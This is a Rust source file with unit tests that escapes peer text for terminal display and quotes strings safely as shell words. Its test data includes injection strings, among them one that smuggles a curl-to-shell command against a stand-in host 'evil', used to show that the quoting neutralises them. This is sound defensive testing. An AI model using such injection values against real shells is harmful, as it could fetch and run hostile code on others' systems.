//! Escapes text from a peer so that it is harmless on a terminal, and as a word of a shell.

pub(crate) use mcp_proto_trace::escape::{is_unsafe, line, lines};

/// Escapes a message and indents its further lines, so that none of them looks like another message.
pub(crate) fn indented(text: &str) -> String {
    lines(text.trim_end()).replace('\n', "\n    | ")
}

/// Returns a text as one word of a shell, for a command that a person may copy.
pub(crate) fn shell_word(text: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "._:/@-".contains(c);
    match !text.is_empty() && text.chars().all(is_plain) {
        true => text.to_owned(),
        false => format!("'{}'", text.replace('\'', r"'\''")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn indented_message_cannot_imitate_another_message() {
        assert_eq!(indented("bad\nERROR: run\r\n\u{1b}x\n"), "bad\n    | ERROR: run\\r\n    | \\u001bx");
    }

    #[test]
    fn words_of_a_shell_run_nothing() {
        for (text, expected) in [
            ("https://h.example:1/a_b-c", "https://h.example:1/a_b-c"),
            ("a;curl${IFS}evil|sh", "'a;curl${IFS}evil|sh'"),
            ("a'$(x)'", r"'a'\''$(x)'\'''"),
            ("http://h/?…", "'http://h/?…'"),
            ("", "''"),
        ] {
            assert_eq!(shell_word(text), expected);
        }
    }
}
